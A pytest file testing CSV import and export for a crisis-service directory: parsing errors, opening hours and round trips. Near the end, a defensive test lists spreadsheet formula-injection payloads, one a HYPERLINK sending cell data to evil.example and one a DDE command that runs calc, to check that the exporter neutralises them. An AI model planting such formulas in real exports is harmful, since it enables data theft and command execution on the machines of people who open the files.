from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from service_finder.domain.hours_formats import osm_misreading, parse_osm, to_osm
from service_finder.domain.phones import PhoneError, normalise_phone
from service_finder.domain.taxonomy import AccessFeature, ReferralRoute, ServiceKind
from service_finder.importers.csv_format import COLUMNS, csv_limitations, parse_csv, schedule_id, to_csv
from service_finder.importers.pipeline import check_records
from service_finder.schemas import PhoneRecord, ScheduleRecord, ServiceRecord
from tests.factories import service_data
from tests.importers.strategies import service_records

TEMPLATES = Path(__file__).resolve().parents[2] / "data" / "templates"


def _record(**overrides: Any) -> ServiceRecord:
    return ServiceRecord.model_validate(service_data(**overrides))


def _readable(phone: PhoneRecord) -> PhoneRecord:
    try:
        display = normalise_phone(phone.display).display
    except PhoneError:
        display = ""
    if display != phone.display:
        display = normalise_phone(phone.number).display
    return phone.model_copy(update={"display": display, "description": ""})


def _through_osm(schedule: ScheduleRecord, schedule_id: str) -> ScheduleRecord:
    domain = parse_osm(to_osm(schedule.to_domain()))
    return ScheduleRecord.from_domain(id=schedule_id, location_id=schedule.location_id, schedule=domain)


def _expressible(record: ServiceRecord) -> ServiceRecord:
    """The record as the CSV can hold it: one schedule per level that OSM evaluators read as we do, named by the
    CSV's convention."""
    schedules = []
    for owner in [None, *(location.id for location in record.locations)]:
        first = next((s for s in record.schedules if s.location_id == owner), None)
        if first is not None and osm_misreading(first.to_domain()) is None:
            schedules.append(_through_osm(first, schedule_id(record.id, owner)))
    return record.model_copy(update={"schedules": schedules, "phones": [_readable(p) for p in record.phones]})


def _table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(service_records, max_size=3, unique_by=lambda r: r.id))
def test_everything_the_csv_can_hold_survives_a_round_trip(records: list[ServiceRecord]) -> None:
    expressible = [_expressible(record) for record in records]
    assert all(csv_limitations(record) == [] for record in expressible)

    parsed = parse_csv(to_csv(expressible))

    assert [p.problems for p in parsed] == [[] for _ in records]
    assert [p.record for p in parsed] == expressible


def test_limitations_name_what_the_csv_would_lose() -> None:
    record = _record(
        schedules=[
            {"id": "winter", "sessions": [{"day": "monday", "opens_at": "18:00", "closes_at": "22:00"}]},
            {"id": "summer", "sessions": [{"day": "tuesday", "opens_at": "18:00", "closes_at": "22:00"}]},
        ],
        phones=[{"number": "0113 496 0123", "description": "Evenings only"}],
    )

    limitations = csv_limitations(record)

    assert len(limitations) == 2
    assert "2 service-wide schedules" in limitations[0]
    assert "Evenings only" not in limitations[1]
    assert "description" in limitations[1]


def test_template_imports_as_two_demo_services() -> None:
    text = (TEMPLATES / "services.csv").read_text(encoding="utf-8")

    parsed = parse_csv(text)

    assert [p.problems for p in parsed] == [[], []]
    cafe, line = (p.record for p in parsed)
    assert cafe is not None
    assert line is not None
    assert cafe.is_demo
    assert line.is_demo
    assert [loc.id for loc in cafe.locations] == ["demo-northfield-community-centre", "demo-northfield-library"]
    assert cafe.kind is ServiceKind.crisis_cafe
    assert cafe.eligibility.referral_routes == [ReferralRoute.walk_in, ReferralRoute.self_referral]
    assert cafe.eligibility.accepts_intoxicated is False
    assert cafe.eligibility.gp_registration_required is None  # empty cell: unknown
    assert cafe.access.accessibility == {
        AccessFeature.step_free: True,
        AccessFeature.wheelchair: True,
        AccessFeature.bsl: False,
    }
    assert [(p.type.value, p.display) for p in cafe.phones] == [("voice", "0113 496 0500"), ("text", "85258")]
    assert [s.location_id for s in cafe.schedules] == [None, "demo-northfield-library"]
    assert line.locations == []
    [always] = line.schedules
    assert always.always_open


def test_template_readme_documents_every_column() -> None:
    readme = (TEMPLATES / "README.md").read_text(encoding="utf-8")
    header = (TEMPLATES / "services.csv").read_text(encoding="utf-8").splitlines()[0].split(",")

    assert header == list(COLUMNS)
    assert [column for column in COLUMNS if f"| `{column}` |" not in readme] == []


def test_bom_crlf_and_trailing_blank_lines_are_tolerated() -> None:
    record = _expressible(_record())
    text = "\ufeff" + to_csv([record]).replace("\r\n", "\n").replace("\n", "\r\n") + "\r\n\r\n,,,\r\n"

    [parsed] = parse_csv(text)

    assert parsed.record == record


def test_unknown_and_missing_columns_are_named_on_row_1() -> None:
    [parsed] = parse_csv("service_id,name,colour\nx,y,red\n")

    assert parsed.record is None
    assert {(p.where, p.field) for p in parsed.problems} == {
        ("row 1", "colour"),
        ("row 1", "organisation_id"),
        ("row 1", "organisation_name"),
        ("row 1", "kind"),
        ("row 1", "source_name"),
    }


def _with(record: ServiceRecord, **cells: str) -> str:
    rows = _table(to_csv([record]))
    for row in rows:
        row.update(cells)
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=COLUMNS)
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def test_bad_cells_are_named_by_row_column_and_value() -> None:
    text = _with(_record(), accepts_intoxicated="sometimes", minimum_age="adult", needs="self_harm; flying")

    [parsed] = parse_csv(text)

    assert parsed.record is None
    assert {(p.where, p.field, p.value) for p in parsed.problems} == {
        ("row 2", "accepts_intoxicated", "'sometimes'"),
        ("row 2", "minimum_age", "'adult'"),
    }
    [parsed] = parse_csv(_with(_record(), needs="self_harm; flying"))
    assert [(p.where, p.field, p.value) for p in parsed.problems] == [("row 2", "needs", "'flying'")]


def test_a_location_problem_names_that_locations_row() -> None:
    record = _record(
        locations=[
            {"id": "a", "postcode": "LS1 1UR", "latitude": 53.8, "longitude": -1.55},
            {"id": "b", "postcode": "LS6 2AB", "latitude": 53.82, "longitude": -1.57},
        ],
        schedules=[],
    )
    rows = _table(to_csv([record]))
    rows[1]["postcode"] = "NOWHERE"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=COLUMNS)
    writer.writeheader()
    writer.writerows(rows)

    [parsed] = parse_csv(out.getvalue())

    assert [(p.where, p.field, p.value) for p in parsed.problems] == [("row 3", "postcode", "'NOWHERE'")]


def test_rows_of_one_service_must_agree() -> None:
    record = _record(
        locations=[
            {"id": "a", "postcode": "LS1 1UR", "latitude": 53.8, "longitude": -1.55},
            {"id": "b", "postcode": "LS6 2AB", "latitude": 53.82, "longitude": -1.57},
        ],
        schedules=[],
    )
    rows = _table(to_csv([record]))
    rows[1]["minimum_age"] = "16"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=COLUMNS)
    writer.writeheader()
    writer.writerows(rows)

    [parsed] = parse_csv(out.getvalue())

    assert parsed.record is None
    assert [(p.where, p.field, p.value) for p in parsed.problems] == [("row 3", "minimum_age", "'16'")]


def test_bad_hours_are_named() -> None:
    [parsed] = parse_csv(_with(_record(schedules=[]), hours="whenever we feel like it"))

    assert parsed.record is None
    assert [(p.where, p.field) for p in parsed.problems] == [("row 2", "hours")]


def test_hours_giving_one_evening_twice_are_named_not_raised() -> None:
    # "18:00-24:00,18:00-00:00" is one session written twice: the overlap check raised TypeError and the import stopped.
    [parsed] = parse_csv(_with(_record(schedules=[]), hours="Mo 18:00-24:00,18:00-00:00"))

    assert parsed.record is None
    assert [(p.where, p.field) for p in parsed.problems] == [("row 2", "hours")]
    assert "overlap" in parsed.problems[0].message


def test_empty_referral_routes_are_unknown_and_none_is_known_empty() -> None:
    unknown = parse_csv(_with(_record(), referral_routes=""))[0].record
    none = parse_csv(_with(_record(), referral_routes="none"))[0].record

    assert unknown is not None
    assert none is not None
    assert unknown.eligibility.referral_routes is None
    assert none.eligibility.referral_routes == []


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_arbitrary_text_gives_problems_never_an_exception(text: str) -> None:
    for parsed in parse_csv(text):
        assert (parsed.record is None) == bool(parsed.problems)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from([*COLUMNS[:8], "kind", "source_name", "hours", "phones"]), min_size=1), st.text())
def test_arbitrary_cells_under_a_real_header_never_raise(header: list[str], body: str) -> None:
    for parsed in parse_csv(",".join(header) + "\r\n" + body):
        assert (parsed.record is None) == bool(parsed.problems)


def test_hours_of_a_site_and_of_a_service_never_share_an_id() -> None:
    # Site 'leeds-cafe-site' of one service next to a service called 'leeds-cafe-site'; a site named as its service.
    header = (
        "service_id,name,organisation_id,organisation_name,kind,source_name,hours,"
        "location_id,postcode,latitude,longitude,location_hours"
    )
    rows = [
        header,
        "leeds-cafe,Leeds Cafe,org,Org,crisis_cafe,test,,leeds-cafe-site,LS1 1UR,53.7997,-1.5492,Fr 18:00-02:00",
        "leeds-cafe-site,Leeds Cafe Line,org,Org,crisis_line,test,24/7,,,,,",
        "samecafe,Same Cafe,org,Org,crisis_cafe,test,Mo-Fr 09:00-17:00,samecafe,LS1 1UR,53.7997,-1.5492,Sa 10:00-12:00",
    ]
    checked = check_records(parse_csv("\n".join(rows) + "\n"), None)
    assert [item.problems for item in checked] == [[], [], []]
    ids = [s.id for item in checked if item.record for s in item.record.schedules]
    assert len(ids) == len(set(ids)) == 4
    assert schedule_id("a" * 80, "b" * 80) != schedule_id("a" * 80, "b" * 79 + "c")
    assert len(schedule_id("a" * 80, "b" * 80)) <= 80


def test_hours_that_apply_only_between_dates_are_listed_as_what_the_csv_cannot_hold() -> None:
    # Written without its dates, a schedule ending in June would read as open every week for ever.
    record = _record(schedules=[{**service_data()["schedules"][0], "valid_to": "2027-06-30", "notes": "term time"}])
    found = csv_limitations(record)
    assert any("applies only between dates" in item for item in found)
    assert any("has notes" in item for item in found)


SHARED_HEADER = (
    "service_id,name,organisation_id,organisation_name,kind,source_name,phones,"
    "location_id,address,city,postcode,latitude,longitude\n"
)


def test_services_giving_one_organisation_or_location_two_ways_name_both_rows() -> None:
    text = SHARED_HEADER + (
        "svc-a,Service A,org-x,Leeds Mind,crisis_cafe,test,0113 496 0500,"
        "site-1,1 Example Street,Leeds,LS1 4AP,53.7997,-1.5492\n"
        "svc-b,Service B,org-x,Leeds Mind Charity,crisis_cafe,test,0113 496 0501,"
        "site-1,2 Other Street,Leeds,LS1 4AP,53.7997,-1.5492\n"
    )

    checked = check_records(parse_csv(text), None)

    problems = [p for item in checked for p in item.problems]
    assert [(p.where, p.field, p.value) for p in problems] == [
        ("row 3", "organisation_name", "'Leeds Mind Charity'"),
        ("row 3", "address", "'2 Other Street'"),
    ]
    assert "organisation 'org-x' is given differently in row 2 ('Leeds Mind')" in problems[0].message
    assert "location 'site-1' is given differently in row 2 ('1 Example Street')" in problems[1].message


def test_services_giving_one_organisation_and_location_the_same_way_share_them() -> None:
    row = "Leeds Mind,crisis_cafe,test,0113 496 0500,site-1,1 Example Street,Leeds,LS1 4AP,53.7997,-1.5492\n"
    text = SHARED_HEADER + f"svc-a,Service A,org-x,{row}svc-b,Service B,org-x,{row}"

    checked = check_records(parse_csv(text), None)

    assert [item.problems for item in checked] == [[], []]


@pytest.mark.parametrize("written", ["2024-05-02", "2024-05-02T10:30:00", "2024-05-02 10:30"])
def test_a_verified_at_without_an_offset_names_its_row_and_column(written: str) -> None:
    [checked] = check_records(parse_csv(_with(_record(schedules=[]), verified_at=written)), None)

    assert checked.record is None
    assert [(p.where, p.field) for p in checked.problems] == [("row 2", "verified_at")]
    assert "no time-zone offset" in checked.problems[0].message


def test_a_postcode_the_gazetteer_refuses_names_its_row_and_column(gazetteer: Any) -> None:
    record = _record(
        locations=[
            {"id": "a", "postcode": "LS1 1UR", "latitude": 53.8, "longitude": -1.55},
            {"id": "b", "postcode": "LS99 9ZZ", "latitude": 53.82, "longitude": -1.57},
        ],
        schedules=[],
    )

    [checked] = check_records(parse_csv(to_csv([record])), gazetteer)

    assert [(p.where, p.field, p.value) for p in checked.problems] == [("row 3", "postcode", "'LS99 9ZZ'")]


def test_a_quote_left_open_names_its_row_instead_of_swallowing_the_rows_after_it() -> None:
    first, second, third = (_record(service_id=f"svc-{n}", schedules=[]) for n in "abc")
    lines = to_csv([first, second, third]).splitlines()
    lines[2] = lines[2].replace("Leeds Test Café", '"Leeds Test Café', 1)  # service b's name: the quote never closes

    parsed = parse_csv("\r\n".join(lines) + "\r\n")

    problems = [str(p) for item in parsed for p in item.problems]
    assert problems == [
        'row 3: a quote (") opened in this row is not closed: the rest of the file would be read as one cell'
    ]
    assert all(item.record is None for item in parsed)


def test_a_bad_service_id_is_named_in_its_own_column_not_blamed_on_the_hours() -> None:
    [parsed] = parse_csv(_with(_record(), service_id="SVC-A", hours="24/7", kind="cafe"))

    assert parsed.record is None
    assert {(p.where, p.field) for p in parsed.problems} == {("row 2", "service_id"), ("row 2", "kind")}


def test_coordinates_outside_england_name_the_coordinates() -> None:
    swapped = _with(_record(schedules=[]), latitude="-1.548567", longitude="53.801277")

    [parsed] = parse_csv(swapped)

    assert [(p.where, p.field, p.value) for p in parsed.problems] == [("row 2", "latitude", "(-1.548567, 53.801277)")]


def test_a_reason_with_a_double_quote_is_named_as_a_loss_not_changed_silently() -> None:
    # An OSM comment cannot hold '"': the CSV wrote 'Closed for "deep clean"' as "Closed for 'deep clean'".
    closure = {"start_date": "2026-12-24", "end_date": "2026-12-24", "reason": 'Closed for "deep clean"'}
    record = _record(schedules=[{"id": "cafe-hours", "exceptions": [closure]}])

    [limitation] = csv_limitations(record)

    assert "'cafe-hours'" in limitation
    assert 'Closed for "deep clean"' in limitation
    [parsed] = parse_csv(to_csv([record]))
    assert parsed.record is not None
    assert parsed.record.schedules[0].exceptions[0].reason != closure["reason"]  # what the limitation warns of


def test_a_closure_after_a_night_session_is_written_without_a_loss() -> None:
    # OSM evaluators end the Thursday-night session at midnight on Christmas Day; here it runs its full length and no
    # session starts on the 25th. That reading is the directory's own, so it was wrongly named a loss and the
    # export of the demonstration directory needed --allow-loss.
    closure = {"start_date": "2026-12-25", "end_date": "2026-12-25", "reason": "Christmas"}
    record = _record(schedules=[{**service_data()["schedules"][0], "exceptions": [closure]}])

    assert csv_limitations(record) == []
    [parsed] = parse_csv(to_csv([record]))
    assert parsed.record is not None, parsed.problems
    assert parsed.record.schedules[0].to_domain() == record.schedules[0].to_domain()


def test_hours_osm_would_read_otherwise_are_named_as_a_loss() -> None:
    # Two special openings on 23 December add up here; OSM evaluators keep only the later rule's hours.
    specials = [
        {"start_date": "2026-12-22", "end_date": "2026-12-23", "closed": False, "hours": [hours]}
        for hours in ({"opens_at": "10:00", "closes_at": "12:00"}, {"opens_at": "14:00", "closes_at": "16:00"})
    ]
    specials[1].update(start_date="2026-12-23", end_date="2026-12-24")
    record = _record(schedules=[{**service_data()["schedules"][0], "exceptions": specials}])

    [limitation] = csv_limitations(record)

    assert "'leeds-test-cafe-hours'" in limitation
    assert "23 Dec 2026" in limitation


# What a hostile or careless publisher can put in a text field, and a spreadsheet would run when an analyst opens the
# export: a link that sends a neighbouring cell away, a DDE command, an arithmetic formula.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A2,"Urgent help: click here")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "'=already quoted once",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_a_spreadsheet_would_run_is_exported_as_text_and_imported_back_as_written(text: str) -> None:
    record = _expressible(_record(name=text, alert=text, organisation={"id": "test-org", "name": text}))

    exported = to_csv([record])
    [row] = _table(exported)
    [parsed] = parse_csv(exported)

    # A leading apostrophe is how every spreadsheet is told "this is text": it shows the text and runs nothing.
    assert {row["name"], row["alert"], row["organisation_name"]} == {"'" + text}
    assert parsed.problems == []
    assert parsed.record == record


def test_numbers_and_plain_text_are_exported_as_they_are() -> None:
    record = _expressible(_record(name="Leeds Test Café", alert="- closed on Monday 1 December -"))

    [row] = _table(to_csv([record]))

    assert row["longitude"] == "-1.548567"  # a negative number is no formula: left as a number
    assert row["name"] == "Leeds Test Café"
    assert row["alert"] == "'- closed on Monday 1 December -"  # begins with '-': a spreadsheet would read a formula
